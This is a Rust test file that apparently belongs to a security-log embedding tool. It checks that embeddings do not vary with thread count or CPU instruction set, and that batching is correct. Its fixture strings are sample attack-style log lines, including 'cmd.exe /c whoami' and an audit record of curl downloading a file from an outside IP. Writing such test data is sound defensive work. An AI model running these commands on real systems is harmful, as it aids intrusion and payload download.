//! What the public interface cannot choose: instruction sets and numbers of threads.

use std::path::PathBuf;

use super::*;

const TEXTS: [&str; 6] = [
    "Failed password for invalid user admin from 203.0.113.7 port 40112 ssh2",
    "Accepted publickey for deploy from 192.0.2.10 port 40113 ssh2",
    "cmd.exe /c whoami",
    "x",
    "",
    "type=EXECVE msg=audit(1692345678.123:456): argc=3 a0=\"curl\" a1=\"-O\" a2=\"http://198.51.100.7/x\"",
];

#[test]
fn instruction_sets_agree_and_threads_change_nothing() {
    let models = std::env::var_os("CASEMATE_MODELS").map(PathBuf::from);
    let dir = models.unwrap_or_else(|| "../../models".into()).join("all-MiniLM-L6-v2");
    if !dir.exists() {
        println!("skipped: all-MiniLM-L6-v2 is neither in $CASEMATE_MODELS nor in models/");
        return;
    }
    let best = Embedder::load_for(&dir, Isa::best(), 1, true).unwrap();
    // Enough texts for several batches.
    let texts: Vec<&str> = TEXTS.iter().cycle().take(70).copied().collect();
    let vectors = best.embed(&texts).unwrap();
    for threads in [2, 3, 7] {
        let found = Embedder::load_for(&dir, Isa::best(), threads, true).unwrap().embed(&texts).unwrap();
        assert!(found == vectors, "{threads} threads change the vectors");
    }
    let isas = [Isa::Portable, Isa::Avx2, Isa::Avx512, Isa::Amx];
    for isa in isas.into_iter().filter(|isa| isa.is_available()) {
        let embedder = Embedder::load_for(&dir, isa, 2, true).unwrap();
        let found = embedder.embed(&texts).unwrap();
        for (text, (found, best)) in texts.iter().zip(found.iter().zip(&vectors)) {
            let cosine: f32 = found.iter().zip(best).map(|(a, b)| a * b).sum();
            assert!(cosine > 0.999, "{isa}: {cosine} for {text:?}");
        }
        assert!(embedder.embed(&texts[..1]).unwrap()[0] == found[0], "{isa}: depends on its neighbours");
    }
}

#[test]
fn batches_hold_every_text_once() {
    let texts: Vec<Vec<u32>> = (0..50).map(|i| vec![i; (i as usize * 7) % 29]).collect();
    let order: Vec<usize> = (0..50).rev().collect();
    for limit in [1, 28, 29, 100, 10_000] {
        let batches = batches(&texts, &order, limit);
        let found: Vec<&[u32]> = batches.iter().flatten().copied().collect();
        let expected: Vec<&[u32]> = order.iter().map(|i| texts[*i].as_slice()).collect();
        assert_eq!(found, expected);
        let tokens = |batch: &Vec<&[u32]>| batch.iter().map(|text| text.len()).sum::<usize>();
        assert!(batches.iter().all(|batch| tokens(batch) <= limit.max(28)), "{limit}");
    }
}
